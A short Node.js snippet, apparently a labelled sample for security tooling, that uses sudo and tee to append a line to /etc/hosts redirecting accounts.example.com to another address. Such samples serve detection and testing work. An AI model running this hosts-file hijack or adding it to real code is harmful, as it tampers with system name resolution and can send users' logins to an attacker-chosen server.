// privilege-escalation: sudo tee given its input through spawnSync
const { spawnSync } = require('child_process');
spawnSync('sudo', ['tee', '-a', '/etc/hosts'], { input: '203.0.113.7 accounts.example.com\n' });
